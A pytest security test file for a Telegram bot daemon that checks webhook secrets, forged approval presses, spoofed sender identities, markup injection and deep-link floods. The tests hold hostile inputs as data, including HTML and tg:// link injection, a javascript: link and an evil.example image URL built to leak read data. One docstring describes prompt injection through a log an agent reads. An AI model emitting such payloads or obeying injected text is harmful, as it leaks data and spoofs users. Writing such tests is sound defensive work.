"""Attacks on a daemon on Telegram: forged updates, presses of others, borrowed names, markup in names, floods."""

import json
from pathlib import Path
from typing import Any

import pytest

from aof.domain.response import Action, Response
from tests.e2e.acting import Doer, asked
from tests.e2e.agents import Echo
from tests.e2e.either import acting_on
from tests.e2e.telegram import (
    AMINA,
    BOT,
    FORUM,
    GROUP,
    HEADER,
    OMAR,
    SECRET,
    STRANGER,
    TelegramWorld,
    telegram_world,
)
from tests.e2e.world import action_of

NOBODY = "1087968824"
"""GroupAnonymousBot, in whose name anonymous administrators write."""


def user(id_: str, name: str = "Somebody", **more: Any) -> dict[str, Any]:
    return {"id": int(id_), "is_bot": False, "first_name": name, **more}


def chat(id_: str) -> dict[str, Any]:
    return {"id": int(id_), "type": "private" if int(id_) > 0 else "supergroup"}


def written(text: str, by: str, at: str = "", number: int = 9_001, **more: Any) -> dict[str, Any]:
    message = {"message_id": number, "from": user(by), "chat": chat(at or by), "date": 1_800_000_000, "text": text}
    return {"message": {**message, **more}}


def pressed(data: str, by: str, at: str = "", **more: Any) -> dict[str, Any]:
    carrier = {"message_id": 7, "chat": chat(at or by), "date": 1_800_000_000, "text": "?"}
    query = {"id": str(hash((data, by, at))), "from": user(by), "chat_instance": "1", "data": data, "message": carrier}
    return {"callback_query": {**query, **more}}


async def is_open(aof: Any) -> bool:
    return [(row.state, row.votes) for row in await aof.store.open_approvals()] == [("asked", ())]


# -- who brings it ----------------------------------------------------------------


@pytest.mark.parametrize(
    "headers",
    [
        {},
        {HEADER: ""},
        {HEADER: "wrong"},
        {HEADER: SECRET[:-1]},
        {HEADER: SECRET + "x"},
        {HEADER: SECRET.upper()},
        {HEADER: "sécret"},
        {"X-Hub-Signature-256": SECRET},
        {"Authorization": f"Bearer {SECRET}"},
    ],
    ids=str,
)
async def test_who_does_not_know_the_secret_is_not_believed(
    tmp_path: Path, echo: Echo, headers: dict[str, str]
) -> None:
    """CVE-2026-25474: a webhook of Telegram without its secret is taken."""
    async with telegram_world(tmp_path, agent=lambda _: echo) as aof:
        for path in ("/webhook/telegram", "/webhooks/telegram", f"/webhook/telegram?token={SECRET}"):
            body = json.dumps({"update_id": 5, **written("restart api", OMAR)})
            async with aof.control.post(f"{aof.url}{path}", data=body, headers=headers) as response:
                assert response.status == 401
                assert SECRET not in await response.text()
        await aof.amina.types("hello there")
        await aof.amina.next()
        assert [turn.text for turn in echo.turns] == ["hello there"]
        assert aof.rows("SELECT count(*) FROM quarantine") == [(0,)]


async def test_a_daemon_that_asks_for_updates_is_brought_none(tmp_path: Path, echo: Echo) -> None:
    environ = {"TELEGRAM_WEBHOOK_SECRET": SECRET}
    keys = {"webhook_secret_env": "TELEGRAM_WEBHOOK_SECRET"}
    async with telegram_world(tmp_path, mode="polling", agent=lambda _: echo, telegram=keys, environ=environ) as aof:
        assert (await aof.webhook(json.dumps({"update_id": 5, **written("x", OMAR)}).encode()))[0] == 401
        await aof.idle()
        assert echo.turns == []


@pytest.mark.parametrize("mode", ["webhook", "polling"])
async def test_telegram_is_told_what_is_wanted_and_never_to_forget(tmp_path: Path, echo: Echo, mode: Any) -> None:
    """Lessons A1: the backlog is thrown away at a start."""
    async with telegram_world(tmp_path, mode=mode, agent=lambda _: echo) as aof:
        for times in (1, 2):
            await aof.stop()
            await aof.amina.types(f"away {times}")
            await aof.start()
            assert (await aof.amina.next())["text"] == f"You said: away {times}"
        asked_for = [*await aof.calls("setWebhook"), *await aof.calls("getUpdates"), *await aof.calls("deleteWebhook")]
        assert asked_for
        for one in asked_for:
            assert not one["body"].get("drop_pending_updates")
            assert set(one["body"]["allowed_updates"]) == {
                "message", "edited_message", "callback_query", "message_reaction", "my_chat_member",
                "stopped_message_generation",
            }  # fmt: skip


# -- who presses ----------------------------------------------------------------


@pytest.mark.parametrize("kind", ["webhook", "polling"])
async def test_what_approves_is_the_press_of_who_may_on_their_own_card(kind: str, tmp_path: Path, doer: Doer) -> None:
    """CVE-2026-56402, CVE-2026-62196, PraisonAI#2580: whoever knows the data of a button, wherever it says it was."""
    async with acting_on(kind, tmp_path, doer) as aof:
        assert isinstance(aof, TelegramWorld)
        card = await asked(aof)
        approve = action_of(card, "Approve")
        assert len(approve.encode()) <= 64
        assert not any(word in approve for word in ("restart", "api", AMINA, OMAR))
        forged = [
            pressed(approve, STRANGER),
            pressed(approve, STRANGER, OMAR),
            pressed(approve, AMINA),
            pressed(approve, AMINA, OMAR),
            pressed(approve, OMAR, FORUM),
            pressed(approve, OMAR, GROUP),
            pressed(approve, NOBODY, FORUM),
            pressed(approve, NOBODY, OMAR),
            pressed(approve, OMAR, **{"from": user(OMAR, is_bot=True)}),
            pressed(approve, OMAR, **{"from": None}),
            pressed(approve, OMAR, **{"from": {"id": OMAR + "x"}}),
            pressed(approve.upper(), OMAR),
            pressed(approve + "x", OMAR),
            pressed("appr:1:approve", OMAR),
            pressed("approve", OMAR),
            # of a message that was sent in the name of the bot by others
            pressed(approve, AMINA, inline_message_id="5"),
            # what a card is when it is passed on: words
            written(approve, OMAR, number=9_002),
            written("Approve", OMAR, number=9_003, forward_origin={"type": "user", "sender_user": user("7000000001")}),
            written("1", OMAR, number=9_004),
        ]
        for update in forged:
            aof.clock.advance(60)
            await aof.brings(update)
            await aof.taken()
            await aof.idle()
            assert await is_open(aof), update
        assert doer.levers.pulled == []
        assert [one for one in await aof.stranger.shown() if one["group_id"] is None] == []
        await aof.lead.presses(card, "Approve")
        while "approved by Omar" not in (await aof.on_call.next())["text"]:
            pass
        assert doer.levers.pulled == [("lever", "restart", "api")]


async def test_in_a_group_only_who_may_talk_is_answered_and_nothing_is_approved(tmp_path: Path, doer: Doer) -> None:
    """CVE-2026-44110: a room is trusted as one of its members is."""
    async with acting_on("webhook", tmp_path, doer) as aof:
        assert isinstance(aof, TelegramWorld)
        await aof.posts(FORUM, STRANGER, f"@{BOT} restart api")
        await aof.posts(FORUM, AMINA, f"@{BOT} restart db")
        card = await aof.lead.next()
        while card["group_id"] is not None:
            card = await aof.lead.next()
        assert "lever restart db" in card["text"]
        await aof.idle()
        assert [one["buttons"] for one in await aof.group(FORUM)] == [[]]
        await aof.posts(FORUM, STRANGER, f"/approvals@{BOT}")
        await aof.brings(pressed(action_of(card, "Approve"), STRANGER, FORUM))
        await aof.brings(pressed(action_of(card, "Approve"), OMAR, FORUM))
        await aof.taken()
        await aof.idle()
        assert await is_open(aof)
        assert [turn.text for turn in doer.turns] == ["restart db"]
        await aof.lead.presses(card, "Approve")
        await aof.wire_until(lambda wire: any("approved by Omar" in str(one["body"]) for one in wire))
        await aof.idle()
        # where it was asked, and nowhere else
        assert any("approved by Omar" in one["text"] for one in await aof.group(FORUM))
        assert doer.levers.pulled == [("lever", "restart", "db")]


async def test_a_strangers_press_in_a_group_is_nobodys(tmp_path: Path, echo: Echo) -> None:
    """Everybody in a group sees the buttons of an answer."""
    echo.answers = lambda turn: Response(
        text=turn.press.action_id if turn.press else "?",
        actions=() if turn.press else (Action(id="go:1", title="Node 1"),),
    )
    listed = {"allowed_users": [AMINA, OMAR], "allowed_groups": [GROUP]}
    async with telegram_world(tmp_path, agent=lambda _: echo, telegram=listed) as aof:
        await aof.posts(GROUP, AMINA, f"@{BOT} which?")
        await aof.wire_until(lambda wire: any(one["url"].endswith("/sendMessage") for one in wire))
        await aof.idle()
        (shown,) = await aof.group(GROUP)
        action = action_of(shown, "Node 1")
        await aof.presses_in(GROUP, STRANGER, shown["id"], action)
        await aof.taken()
        await aof.idle()
        assert len(echo.turns) == 1
        assert len(await aof.group(GROUP)) == 1
        await aof.presses_in(GROUP, AMINA, shown["id"], action)
        await aof.wire_until(lambda wire: sum(one["url"].endswith("/sendMessage") for one in wire) == 2)
        assert len(echo.turns) == 2


# -- who they say they are ----------------------------------------------------------------


@pytest.mark.parametrize("kind", ["webhook", "polling"])
async def test_a_borrowed_name_lets_nobody_in(kind: str, tmp_path: Path, doer: Doer) -> None:
    """A name of Telegram can be anything today and somebody else's tomorrow; only the number is believed."""
    async with acting_on(kind, tmp_path, doer) as aof:
        assert isinstance(aof, TelegramWorld)
        card = await asked(aof)
        for number, (name, username) in enumerate(
            [("Omar", "omar"), ("@lead", "lead"), ("lead", "@lead"), (OMAR, OMAR), (f"telegram:{OMAR}", "on_call")]
        ):
            thief = user(STRANGER, name, username=username, last_name="lead", language_code="en")
            await aof.brings(written("restart api", STRANGER, number=9_100 + number, **{"from": thief}))
            await aof.brings(pressed(action_of(card, "Approve"), STRANGER, **{"from": thief, "id": f"77{number}"}))
            await aof.taken()
        await aof.idle()
        assert await is_open(aof)
        assert [turn.text for turn in doer.turns] == ["restart api"]
        assert await aof.stranger.shown() == []


@pytest.mark.parametrize(
    "update",
    [
        written("restart api", OMAR, via_bot=user("700", is_bot=True, username="gif")),
        written("restart api", OMAR, **{"from": user(OMAR, is_bot=True)}),
        written("restart api", OMAR, FORUM, sender_chat={"id": int(FORUM), "type": "supergroup", "title": "prod"}),
        written(f"/disk@{BOT}", NOBODY, FORUM, sender_chat={"id": int(FORUM), "type": "supergroup", "title": "prod"}),
        written(f"/disk@{BOT}", NOBODY, FORUM, **{"from": user(NOBODY, is_bot=True, username="GroupAnonymousBot")}),
        written(f"/disk@{BOT}", "136817688", FORUM, sender_chat={"id": -1005, "type": "channel", "title": "news"}),
        written(f"/disk@{BOT}", "777000", FORUM, is_automatic_forward=True),
        {"channel_post": written("/disk", OMAR, "-1005")["message"]},
        {"edited_channel_post": written("/disk", OMAR, "-1005")["message"]},
        {"business_message": written("restart api", OMAR)["message"]},
        {"guest_message": written("restart api", OMAR)["message"]},
        {"inline_query": {"id": "1", "from": user(OMAR), "query": "restart api", "offset": ""}},
        {"chosen_inline_result": {"result_id": "1", "from": user(OMAR), "query": "restart api"}},
    ],
    ids=lambda update: next(iter(update)),
)
async def test_in_whose_name_it_is_written_counts_and_not_who_is_named(
    tmp_path: Path, echo: Echo, update: dict[str, Any]
) -> None:
    # whoever writes would be let in
    async with telegram_world(tmp_path, agent=lambda _: echo) as aof:
        await aof.brings(update)
        await aof.taken()
        await aof.amina.types("still there?")
        await aof.amina.next()
        await aof.idle()
        assert [turn.text for turn in echo.turns] == ["still there?"]
        assert await aof.omar.shown() == await aof.group(FORUM) == []


# -- what they say ----------------------------------------------------------------

MARKED = (
    '<b>bold</b> & <a href="tg://user?id=55502">Omar</a> </code></pre><i>x</i> &lt;&amp;lt; <tg-spoiler>s</tg-spoiler>'
)


async def test_markup_in_names_and_words_is_text(tmp_path: Path, doer: Doer) -> None:
    """A card whose command ends its own marks would show what nobody asked for."""
    people = [
        {"name": "<b>Amina</b>&", "whatsapp": "+15550001001", "telegram": AMINA, "roles": ["on-call"]},
        {"name": "Omar", "telegram": OMAR, "roles": ["lead"]},
    ]
    async with acting_on("webhook", tmp_path, doer, people=people) as aof:
        command = f"restart '{MARKED}\u202e'"
        await aof.on_call.types(command)
        waiting, card = await aof.on_call.next(), await aof.lead.next()
        assert "<b>Amina</b>&" in card["text"]
        assert MARKED in card["text"]
        assert "\u202e" not in card["text"]
        links = [mark for one in (waiting, card) for mark in one["entities"] or [] if mark["type"] == "text_link"]
        assert links == []
        await aof.lead.presses(card, "Approve")
        said = await aof.on_call.next()
        assert MARKED in said["text"]
        assert "text_link" not in {mark["type"] for mark in said["entities"] or []}
        await aof.idle()
        # nothing had to be said a second time, without marks
        assert {one["status"] for one in await aof.calls("sendMessage")} == {200}


@pytest.mark.parametrize("rich", ["off", "on"])
async def test_an_answer_calls_nobody_and_has_nothing_fetched(tmp_path: Path, echo: Echo, rich: str) -> None:
    """A log that an agent reads may tell it what to write: a picture's address would carry away what it knows."""
    echo.answers = lambda _: Response(
        text="# Disk\n\n[Omar](tg://user?id=55502) [x](javascript:alert(1)) [join](tg://resolve?domain=evil) "
        "![i](https://evil.example/x.png?what=was-read) <img src=x> [runbook](https://wiki.example/disk)"
    )
    async with telegram_world(tmp_path, agent=lambda _: echo, telegram={"rich": rich, "allow_everyone": True}) as aof:
        await aof.amina.types("disk?")
        shown = await aof.amina.next()
        assert shown["type"] == "text"
        for mark in shown["entities"]:
            assert mark["type"] != "text_mention"
            assert mark.get("url", "https://wiki.example/disk") == "https://wiki.example/disk"
        (sent,) = await aof.calls("sendMessage")
        assert sent["body"]["link_preview_options"] == {"is_disabled": True}


async def test_a_flood_of_deep_links_holds_nobody_up(tmp_path: Path, echo: Echo) -> None:
    """Anybody can hand out links that say something when they are opened."""
    async with telegram_world(tmp_path, agent=lambda _: echo, telegram={"allowed_users": [AMINA]}) as aof:
        for number in range(100):
            await aof.brings(written(f"/start {number:064}", STRANGER, number=10_000 + number))
        await aof.amina.types("and me?")
        assert (await aof.amina.next())["text"] == "You said: and me?"
        await aof.taken()
        await aof.idle()
        assert await aof.stranger.shown() == []
        assert len(echo.turns) == len(await aof.calls("sendMessage")) == 1
